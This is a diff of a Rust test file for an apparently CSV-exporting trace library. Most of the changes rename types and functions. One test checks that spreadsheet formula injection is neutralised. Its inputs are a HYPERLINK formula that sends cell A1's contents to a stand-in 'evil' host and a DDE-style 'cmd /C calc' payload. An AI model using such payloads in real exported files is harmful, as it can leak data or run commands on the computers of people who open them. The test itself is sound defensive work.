@@ -2,8 +2,8 @@
 
 use std::collections::BTreeMap;
 
-use tapline::report::{self, Options};
-use tapline::trace::{Cause, Event, ExchangeId, Trace, What};
+use tapline::report::{self, ReportOptions};
+use tapline::trace::{Event, EventKind, ExchangeCause, ExchangeId, Trace};
 use tapline::units::Moment;
 
 use crate::scenario::Scenario;
@@ -74,7 +74,7 @@ fn a_suite_has_a_row_for_each_endpoint() {
 }
 
 fn rows(trace: &Trace) -> Vec<BTreeMap<String, String>> {
-    let mut records = records(&report::csv(trace, &Options::default())).into_iter();
+    let mut records = records(&report::csv_report(trace, &ReportOptions::default())).into_iter();
     let names = records.next().unwrap();
     records
         .map(|record| {
@@ -141,15 +141,15 @@ fn figures_are_whole_nanoseconds_and_what_was_not_measured_is_empty() {
 #[test]
 fn nothing_that_came_from_elsewhere_is_a_formula() {
     let url = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")\r\n@SUM(1)";
-    let started = What::ExchangeStarted {
+    let started = EventKind::ExchangeStarted {
         exchange: ExchangeId(0),
-        cause: Cause::Asked,
+        cause: ExchangeCause::Asked,
         method: "+cmd|' /C calc'!A0".into(),
         url: url.into(),
     };
-    let row = &rows(&Trace::of([Event {
+    let row = &rows(&Trace::from_events([Event {
         at: Moment(0),
-        what: started,
+        kind: started,
     }]))[0];
     assert_eq!(row["method"], "'+cmd|' /C calc'!A0");
     assert!(
